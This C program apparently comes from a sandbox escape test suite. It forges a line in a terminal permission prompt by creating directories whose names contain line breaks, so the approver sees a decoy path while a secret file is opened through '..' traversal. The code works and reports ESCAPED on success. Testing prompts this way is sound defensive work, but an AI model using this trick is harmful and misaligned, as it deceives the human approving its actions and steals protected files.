/* ask_lines.c: a line of the question forged by a name with a line break in it.
 *
 * The terminal prompt shows a call's path as the program spelled it too: "path SECRET
 * (given as SPELLING)".  Escape sequences in it are shown as ^[ by prompt-toolkit, but a
 * line feed in a text it draws *is* a line break.  The program makes directories whose
 * names spell, across the slashes, "\n  call   openat  path DECOY  flags O_RDONLY\n", then
 * opens the secret through them and back out with "..": below the real call line the
 * person sees a second one -- about the decoy, the last call line above the prompt.
 *
 *   ask_lines /DECOY SECRET    (SECRET relative to the working directory; work/ is ours)
 *
 * ESCAPED when the secret was read, BLOCKED with the errno otherwise.
 */
#include "attack.h"

int main(int argc, char **argv) {
    if (argc != 3 || argv[1][0] != '/') {
        fprintf(stderr, "usage: ask_lines /DECOY SECRET\n");
        return 2;
    }
    static char path[4096];
    size_t len = (size_t)snprintf(path, sizeof path, "work/d\n  call   openat  path ");
    if (mkdir(path, 0755) < 0 && errno != EEXIST)
        blocked("mkdir: %s", ename(errno));
    int depth = 2;  /* work, and the first name */
    const char *name = argv[1] + 1;
    while (*name) {
        const char *end = strchr(name, '/');
        size_t n = end ? (size_t)(end - name) : strlen(name);
        len += (size_t)snprintf(path + len, sizeof path - len, "/%.*s%s", (int)n, name,
                                end ? "" : "  flags O_RDONLY\nx");
        if (mkdir(path, 0755) < 0 && errno != EEXIST)
            blocked("mkdir %.*s: %s", (int)n, name, ename(errno));
        depth++;
        name = end ? end + 1 : name + n;
    }
    for (int i = 0; i < depth; i++)
        len += (size_t)snprintf(path + len, sizeof path - len, "/..");
    snprintf(path + len, sizeof path - len, "/%s", argv[2]);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        blocked("secret: %s", ename(errno));
    char buf[256] = {0};
    if (read(fd, buf, sizeof buf - 1) > 0 && strstr(buf, SECRET_MAGIC))
        escaped("read the secret through a name that draws a line: %s", buf);
    blocked("read no secret");
}
